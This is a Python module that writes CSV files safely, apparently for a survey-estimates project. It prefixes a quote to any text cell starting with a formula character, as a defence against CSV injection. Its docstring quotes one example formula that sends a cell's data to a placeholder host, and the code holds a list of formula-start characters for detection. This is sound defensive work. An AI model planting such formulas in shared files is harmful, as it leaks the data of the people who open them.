"""Every CSV file the project writes goes through :class:`CsvTable`, so no cell can run as a formula.

A spreadsheet that opens a CSV evaluates a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in
some programs, a tab or carriage return) as a formula: a question text such as
``=HYPERLINK("http://x/?"&A1,"click")``, typed by anyone who can edit a survey, would run on the
computer of every researcher who opens the estimates. As OWASP recommends ("CSV Injection"), a text
cell that starts with one of those characters gets a leading single quote, which spreadsheets show
as text and do not evaluate; the csv module's quoting keeps commas, quotes and line breaks inside
their cell.

Which cells are text is decided by the column's declared type, never by looking at the value: a
number column holds numbers (``-0.0123`` must stay a number a program can parse), and a string
handed to a number column is refused rather than written unneutralized. Pure Python: no Flask.
"""

from __future__ import annotations

import csv
import io
import numbers
from collections.abc import Callable, Iterable, Sequence
from typing import Any, Literal

ColumnType = Literal["text", "number"]

#: What a spreadsheet may take for the start of a formula (OWASP's list), plus the full-width forms
#: some East Asian versions of Excel accept as well.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralize(text: str) -> str:
    """``text`` with a leading ``'`` if a spreadsheet could evaluate it (also after leading spaces)."""
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def _text_cell(value: Any) -> str:
    return "" if value is None else neutralize(str(value))


def _number_cell(value: Any) -> str | int:
    """A number as the file shows it: an integer as is, a float in its shortest exact form
    (``repr``, which parses back to the very same double; ``inf`` for infinity); empty for None."""
    kind = type(value)
    if kind is int:  # the common case first: a file may have millions of these
        return value
    if kind is float:
        return repr(value)
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, numbers.Real):
        raise TypeError(f"a number column got {value!r}; text belongs in a text column, where it is neutralized")
    if isinstance(value, numbers.Integral):
        return int(value)
    return repr(float(value))


_CELLS: dict[str, Callable[[Any], Any]] = {"text": _text_cell, "number": _number_cell}


class CsvTable:
    """Lines of one CSV file whose columns are declared ``(name, "text" | "number")``.

    ``header()`` and ``row(values)`` return finished lines (``\\r\\n``-terminated, as the csv module
    writes them), so a caller can stream them one by one or join many into a chunk.
    """

    def __init__(self, columns: Sequence[tuple[str, ColumnType]]) -> None:
        for name, kind in columns:
            if kind not in _CELLS:
                raise ValueError(f"column {name!r}: the type must be 'text' or 'number', not {kind!r}")
        self.names = [name for name, _ in columns]
        self._cells = [_CELLS[kind] for _, kind in columns]
        self._buffer = io.StringIO()
        self._writer = csv.writer(self._buffer, lineterminator="\r\n")

    def header(self) -> str:
        """The header line; column names are text like any other."""
        return self._line([neutralize(name) for name in self.names])

    def row(self, values: Sequence[Any]) -> str:
        """One line; ``values`` in column order, None for an empty cell."""
        if len(values) != len(self._cells):
            raise ValueError(f"a row needs {len(self._cells)} values, got {len(values)}")
        return self._line([cell(value) for cell, value in zip(self._cells, values, strict=True)])

    def rows(self, rows: Iterable[Sequence[Any]]) -> str:
        """Several lines at once (a chunk of a streamed file)."""
        return "".join(self.row(values) for values in rows)

    def plain_rows(self, rows: Sequence[Sequence[Any]]) -> str:
        """Many lines at the csv module's pace, for a table of many rows whose cells need no
        conversion: the same text :meth:`rows` writes, provided a number column holds only ``int``,
        ``float`` or None and a text column only ``str`` or None that no spreadsheet would take for
        a formula (the microdata: numbers and ISO dates). Checked a column at a time (types by
        ``set(map(type, ...))``, texts by their first character), so a value that would need
        :meth:`row`'s conversion is refused, never written as it is."""
        if not rows:
            return ""
        for cell, column in zip(self._cells, zip(*rows, strict=True), strict=True):
            kinds = set(map(type, column)) - {type(None)}
            if cell is _number_cell and not kinds <= {int, float}:
                raise TypeError(f"a number column got values of the types {sorted(k.__name__ for k in kinds)}")
            if cell is _text_cell:
                if not kinds <= {str}:
                    raise TypeError("plain_rows writes texts only as they are")
                if any(neutralize(v) != v for v in set(column) - {None}):
                    raise ValueError("a text cell that needs neutralizing: write it with row()")
        self._buffer.seek(0)
        self._buffer.truncate()
        self._writer.writerows(rows)
        return self._buffer.getvalue()

    def _line(self, cells: list[Any]) -> str:
        self._buffer.seek(0)
        self._buffer.truncate()
        self._writer.writerow(cells)
        return self._buffer.getvalue()
